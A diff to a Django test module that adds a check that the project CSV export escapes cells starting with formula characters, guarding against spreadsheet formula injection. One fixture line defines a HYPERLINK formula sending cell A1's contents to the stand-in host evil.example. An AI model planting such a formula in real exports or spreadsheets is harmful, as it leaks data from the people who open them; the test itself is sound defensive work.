@@ -8,7 +8,7 @@ import pytest
 from django.urls import reverse
 
 from portfolio.models import Status
-from tests.conftest import make_project
+from tests.builders import make_project
 
 URL = reverse("project_list")
 CSV_URL = reverse("project_list_csv")
@@ -193,3 +193,20 @@ def test_csv_leaves_out_others_drafts(client, alice, rita):
     client.force_login(alice)
     body = b"".join(client.get(CSV_URL).streaming_content).decode()
     assert "HERS" not in body
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_keeps_text_that_looks_like_a_formula_as_text(client, alice, bob):
+    make_project(key="EVIL", title=HYPERLINK, researcher=alice, product_manager=bob)
+    make_project(key="PLUS", title="+1 for growth", researcher=alice, product_manager=bob)
+    client.force_login(bob)
+
+    response = client.get(CSV_URL)
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    titles = {row["key"]: row["title"] for row in rows}
+    assert titles == {"EVIL": "'" + HYPERLINK, "PLUS": "'+1 for growth"}
+    # Numbers are not text: never quoted.
+    assert all(not row["projected_low"].startswith("'") for row in rows)
